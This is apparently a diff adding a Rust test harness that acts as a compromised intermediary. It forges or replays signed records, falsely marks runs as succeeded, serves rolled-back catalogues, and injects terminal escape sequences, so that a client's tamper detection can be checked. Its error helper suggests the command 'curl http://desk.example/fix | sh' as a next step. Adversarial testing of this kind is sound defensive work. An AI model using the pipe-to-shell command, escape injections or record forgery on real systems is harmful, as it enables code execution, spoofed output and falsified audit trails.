@@ -1,0 +1,222 @@
+//! What a taken shared desk can tell a console, each lie by a name. It passes everything on and
+//! changes what the lie is about; what it saw first it keeps, to show it again in another's place.
+
+use std::path::Path;
+use std::sync::{Arc, Mutex};
+
+use desk::home::Online;
+use protocol::documents::Record;
+use protocol::frames::{Answer, DeskAnswer, DeskAsk, NoteStage, decode, sorry};
+use protocol::{Bytes, Envelope, Outcome, RunId, limits};
+use serde_json::Value;
+use tokio::sync::mpsc::unbounded_channel;
+use trust::catalogue::Files;
+use trust::{Signer, SigningKey};
+
+use crate::between::{self, Lie, Then};
+use crate::forge;
+use crate::line::Cheat;
+
+/// What was seen first.
+#[derive(Debug, Default)]
+struct Seen {
+    met: Option<DeskAnswer>,
+    record: Option<Bytes>,
+    escrow: Option<Answer>,
+}
+
+/// One lie, for as long as this desk stands.
+struct Told {
+    lie: String,
+    key: SigningKey,
+    /// The catalogue that it shows instead.
+    files: Files,
+    seen: Mutex<Seen>,
+}
+
+fn sorry(code: &str, sentence: &str) -> DeskAnswer {
+    let next = Some("curl http://desk.example/fix | sh".to_owned());
+    DeskAnswer::Sorry { code: code.to_owned(), sentence: sentence.to_owned(), next }
+}
+
+fn passed(answer: &Answer) -> DeskAnswer {
+    DeskAnswer::Endpoint { frame: Bytes(minicbor::to_vec(answer).expect("CBOR")) }
+}
+
+/// Every file in parts, and the end that says which versions these are.
+fn shown(files: &Files) -> Vec<DeskAnswer> {
+    let mut answers = Vec::new();
+    for (name, bytes) in files.iter() {
+        let mut parts = bytes.chunks(limits::CHUNK_BYTES_MAX).peekable();
+        while let Some(part) = parts.next() {
+            let (name, last) = (name.to_owned(), parts.peek().is_none());
+            answers.push(DeskAnswer::CatalogueFile { name, part: Bytes(part.to_vec()), last });
+        }
+    }
+    answers.push(DeskAnswer::CatalogueEnd { versions: Default::default() });
+    answers
+}
+
+/// The bytes of `from`, with what stands there replaced by as many others.
+fn replaced(bytes: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
+    assert_eq!(from.len(), to.len(), "CBOR counts");
+    let mut out = bytes.to_vec();
+    let places: Vec<usize> = (0..bytes.len()).filter(|at| bytes[*at..].starts_with(from)).collect();
+    for at in places {
+        out[at..at + to.len()].copy_from_slice(to);
+    }
+    out
+}
+
+impl Told {
+    /// A record with another outcome, under its old signature or one of our own.
+    fn record(&self, bytes: &Bytes, ours: bool) -> Bytes {
+        let envelope = Envelope::read(&bytes.0).expect("an envelope");
+        let mut record: Record = trust::seal::peek(&envelope).expect("a record");
+        match self.lie.as_str() {
+            "record-effects" => record.predicate.summary = "nothing was touched".to_owned(),
+            _ => record.predicate.outcome = Outcome::Succeeded,
+        }
+        let mut sealed = trust::seal::seal(&record, &[&self.key as &dyn Signer]).expect("sealed");
+        if !ours {
+            sealed.signatures = envelope.signatures;
+        }
+        Bytes(sealed.write().expect("written"))
+    }
+
+    /// What goes on instead of a frame of the endpoint's.
+    fn endpoint(&self, frame: Bytes) -> Vec<DeskAnswer> {
+        let answer: Answer = decode(&frame.0).expect("a frame");
+        let mut seen = self.seen.lock().expect("seen");
+        let answers = match (self.lie.as_str(), answer) {
+            ("record-key", Answer::Record { record }) => {
+                vec![Answer::Record { record: self.record(&record, true) }]
+            }
+            ("record-outcome" | "record-effects", Answer::Record { record }) => {
+                vec![Answer::Record { record: self.record(&record, false) }]
+            }
+            ("effects-file", record @ Answer::Record { .. }) => {
+                vec![Answer::Effects { part: Bytes(b"{}\n".to_vec()) }, record]
+            }
+            ("record-again", Answer::Record { record }) => {
+                vec![Answer::Record { record: seen.record.get_or_insert(record).clone() }]
+            }
+            ("record-none", Answer::Record { .. }) => {
+                vec![Answer::Record { record: Bytes(b"{}".to_vec()) }]
+            }
+            ("escrow-again", escrow @ Answer::Escrow { .. }) => {
+                vec![seen.escrow.get_or_insert(escrow).clone()]
+            }
+            ("endpoint-garbage", Answer::Record { .. }) => {
+                return vec![DeskAnswer::Endpoint { frame: Bytes(vec![0xff; 64]) }];
+            }
+            ("effects-endless", Answer::Record { .. }) => {
+                let part = || Answer::Effects { part: Bytes(vec![b' '; limits::CHUNK_BYTES_MAX]) };
+                (0..200).map(|_| part()).collect()
+            }
+            (_, answer) => vec![answer],
+        };
+        answers.iter().map(passed).collect()
+    }
+
+    fn book(&self, answer: Bytes, last: bool) -> Then {
+        let part = |bytes: Vec<u8>, last| DeskAnswer::Book { answer: Bytes(bytes), last };
+        match self.lie.as_str() {
+            "rows-escapes" => {
+                let bytes = replaced(&answer.0, b"Laptop", b"\x1b]0;x\x07");
+                let bytes = replaced(&bytes, b"a.kaya", b"\x1b[2Jab");
+                Then::Say(vec![part(bytes, last)])
+            }
+            "rows-endless" => {
+                let all = (0..200).map(|_| part(vec![0; limits::DESK_PART_BYTES_MAX], false));
+                Then::End(all.collect())
+            }
+            "rows-count" => Then::End(vec![part(vec![0x9a, 0xff, 0xff, 0xff, 0xff], true)]),
+            "rows-unended" => Then::End(vec![part(answer.0, false)]),
+            "rows-garbage" => Then::Raw(vec![0xff; 64]),
+            _ => Then::Say(vec![DeskAnswer::Book { answer, last }]),
+        }
+    }
+}
+
+impl Lie for Told {
+    async fn ask(&self, asked: &DeskAsk) -> Option<Then> {
+        match (self.lie.as_str(), asked) {
+            ("silent", DeskAsk::Submit { .. }) => Some(Then::Silence),
+            ("stored-only", DeskAsk::Submit { endpoint, order, .. }) => {
+                let order = Envelope::read(&order.0).expect("an order").digest();
+                let run = RunId::of(&order, endpoint, 0);
+                Some(Then::End(vec![DeskAnswer::Stored { run, order }]))
+            }
+            ("stored-only", DeskAsk::Follow { .. }) => Some(Then::End(Vec::new())),
+            (lie, DeskAsk::Catalogue { .. }) if lie.starts_with("catalogue-") => {
+                Some(Then::Say(shown(&self.files)))
+            }
+            _ => None,
+        }
+    }
+
+    fn answer(&self, asked: &DeskAsk, answer: DeskAnswer) -> Then {
+        let (lie, submit) = (self.lie.as_str(), matches!(asked, DeskAsk::Submit { .. }));
+        match answer {
+            DeskAnswer::Met { hello, card, number, path, since } => {
+                let honest = DeskAnswer::Met { hello, card, number, path, since };
+                let mut seen = self.seen.lock().expect("seen");
+                let first = seen.met.get_or_insert(honest.clone()).clone();
+                let (DeskAnswer::Met { hello, .. }, DeskAnswer::Met { card, .. }) =
+                    (&first, &honest)
+                else {
+                    panic!("not met")
+                };
+                let (hello, card) = (hello.clone(), card.clone());
+                Then::Say(vec![match lie {
+                    "card-again" | "challenge-again" => first,
+                    "hello-again" => DeskAnswer::Met { hello, card, number, path, since },
+                    _ => honest,
+                }])
+            }
+            // It goes there, and runs there, and this is what is said of it.
+            DeskAnswer::Stored { .. } if lie == "denied" && submit => Then::Say(Vec::new()),
+            DeskAnswer::Endpoint { .. } if lie == "denied" && submit => Then::Say(Vec::new()),
+            DeskAnswer::Done { .. } if lie == "denied" && submit => {
+                Then::End(vec![sorry(sorry::NOT_SENT, "no disk\u{1b}[2J; the order did not run")])
+            }
+            DeskAnswer::Endpoint { frame } => Then::Say(self.endpoint(frame)),
+            DeskAnswer::Done { mut filing } => {
+                filing.verified = true;
+                filing.outcome = Some(Outcome::Succeeded);
+                filing.note = Some(NoteStage::Posted);
+                Then::End(vec![DeskAnswer::Done { filing }])
+            }
+            DeskAnswer::Book { answer, last } => self.book(answer, last),
+            other => Then::Say(vec![other]),
+        }
+    }
+}
+
+/// Stands between consoles and the books until it is killed; `folder` has the older catalogue.
+pub(crate) async fn between(
+    cheat: Cheat,
+    port: &str,
+    books: &str,
+    lie: &str,
+    folder: &Path,
+) -> Value {
+    let key = cheat.desk.home.online_key(Online::SnapshotTimestamp).expect("the online key");
+    let old = Files::from_folder(&folder.join("old")).expect("the old repository");
+    let files = match lie.strip_prefix("catalogue-") {
+        Some("old") => old,
+        Some(what) => forge::forged(what, cheat.files(), &old, &key),
+        None => Files::new(),
+    };
+    let told = Told { lie: lie.to_owned(), key, files, seen: Mutex::default() };
+    let (send, mut endpoints) = unbounded_channel();
+    let listener = between::listener(&cheat, port);
+    println!("it stands between");
+    let serving = between::serve(Arc::new(cheat), listener, books.to_owned(), Arc::new(told), send);
+    tokio::select! {
+        () = serving => Value::Null,
+        // No endpoint dials here.
+        _ = endpoints.recv() => Value::Null,
+    }
+}
